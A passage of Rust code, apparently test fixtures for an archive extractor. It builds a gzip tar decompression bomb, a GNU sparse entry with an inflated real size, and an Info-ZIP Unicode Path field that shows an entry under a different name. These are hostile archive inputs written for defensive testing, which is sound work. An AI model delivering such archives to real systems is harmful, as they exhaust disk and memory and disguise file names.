/// memory), and returns the file's path. The compressed file is about `size / 1000`.
pub fn zero_bomb(dir: &Path, name: &str, size: u64) -> PathBuf {
    let path = dir.join(name);
    let file = std::fs::File::create(&path).expect("create bomb");
    let mut enc = GzEncoder::new(std::io::BufWriter::new(file), Compression::fast());
    enc.write_all(&header(b"package/zeros.bin", flag::FILE, size, b"", 0o644))
        .expect("write bomb header");
    let chunk = vec![0u8; 1 << 20];
    let mut left = size;
    while left > 0 {
        let n = left.min(chunk.len() as u64) as usize;
        enc.write_all(&chunk[..n]).expect("write bomb data");
        left -= n as u64;
    }
    // Padding to the block size, then the end marker.
    let padding = (512 - size % 512) % 512;
    enc.write_all(&vec![0u8; padding as usize + 1024])
        .expect("write bomb end");
    enc.finish()
        .expect("finish bomb")
        .flush()
        .expect("flush bomb");
    path
}

/// A GNU sparse entry (type `S`) whose one data block of `data` sits at the end of a file of
/// `real_size` bytes: everything before it is a hole that reads as zeros.
pub fn gnu_sparse(name: &str, data: &[u8; 512], real_size: u64) -> Vec<u8> {
    let mut h = header(name.as_bytes(), b'S', 512, b"", 0o644);
    h[257..265].copy_from_slice(b"ustar  \0"); // old GNU magic and version
    octal(&mut h[386..398], real_size - 512); // sparse[0].offset
    octal(&mut h[398..410], 512); // sparse[0].numbytes
    octal(&mut h[483..495], real_size); // realsize
    fix_checksum(&mut h);
    let mut out = h.to_vec();
    out.extend_from_slice(data);
    out
}

/// An Info-ZIP Unicode Path extra field (0x7075) renaming the entry called `stored` to `shown`.
pub fn unicode_path_extra(stored: &[u8], shown: &str) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(stored);
    let mut out = Vec::new();
    out.extend_from_slice(&0x7075u16.to_le_bytes());
    out.extend_from_slice(&(5 + shown.len() as u16).to_le_bytes());
    out.push(1);
    out.extend_from_slice(&crc.sum().to_le_bytes());
    out.extend_from_slice(shown.as_bytes());
    out
}
